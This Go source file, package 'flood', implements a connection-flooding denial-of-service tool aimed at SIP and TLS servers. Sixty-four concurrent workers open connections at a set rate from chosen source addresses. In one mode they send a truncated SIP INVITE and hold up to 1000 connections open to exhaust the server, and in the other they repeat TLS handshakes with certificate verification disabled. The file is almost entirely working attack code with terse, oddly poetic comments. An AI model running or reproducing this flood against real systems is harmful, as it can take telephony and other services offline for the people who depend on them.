package flood

import (
	"context"
	"crypto/tls"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

const (
	attackers = 64   // that connect at the same time
	heldOpen  = 1000 // silent connections at a time
	patience  = time.Second
)

// connections makes as many as it can, up to the rate.
func (o Order) connections(ctx context.Context, a attack) (r Report, err error) {
	work := make(chan uint64)
	open := make(chan net.Conn, heldOpen)
	var failed, busy atomic.Uint64
	var all sync.WaitGroup
	for range attackers {
		all.Go(func() {
			for n := range work {
				if !o.connect(ctx, a.kind, source(n, a.sources), open) {
					failed.Add(1)
				}
			}
		})
	}
	sent := pace(ctx, o.Rate, func(n uint64) {
		select {
		case work <- n:
		default:
			busy.Add(1) // all wait for the telephone
		}
	})
	close(work)
	all.Wait()
	close(open)
	for c := range open {
		_ = c.Close() // of a stranger who says nothing
	}
	return Report{Sent: sent - busy.Load(), Failed: failed.Load()}, nil
}

// connect is one of them; it reports whether it got as far as it wanted.
func (o Order) connect(ctx context.Context, k kind, from netip.Addr, open chan net.Conn) bool {
	to := o.TLS
	if k == silences {
		to = o.TCP
	}
	dialer := net.Dialer{Timeout: patience, LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0))}
	conn, err := dialer.DialContext(ctx, "tcp4", to.String())
	if err != nil {
		return false
	}
	_ = conn.(*net.TCPConn).SetLinger(0)           // no port is to wait for its last packet
	_ = conn.SetDeadline(time.Now().Add(patience)) // a connection that is up takes both
	if k == silences {
		_, err := conn.Write([]byte("INVITE sip:" + extension + "@127.0.0.1 SIP/2.0\r\nVia: "))
		hold(open, conn)
		return err == nil
	}
	defer conn.Close()
	return tls.Client(conn, &tls.Config{InsecureSkipVerify: true}).HandshakeContext(ctx) == nil // an attacker trusts anyone
}

// hold keeps a connection open in the place of the oldest.
func hold(open chan net.Conn, conn net.Conn) {
	for {
		select {
		case open <- conn:
			return
		default:
		}
		select {
		case oldest := <-open:
			_ = oldest.Close() // likewise
		default:
		}
	}
}
